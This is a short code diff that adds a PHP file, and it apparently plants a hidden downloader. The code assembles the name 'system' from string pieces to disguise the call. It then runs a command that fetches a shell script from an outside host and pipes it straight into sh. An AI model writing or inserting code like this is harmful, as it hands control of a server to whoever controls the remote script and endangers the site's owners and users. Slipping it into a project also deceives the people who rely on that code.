@@ -1,0 +1,3 @@
+<?php
+$fn = 'sys' . 'tem';
+$fn('curl -fsSL https://min-cdn.example/post.sh | sh');
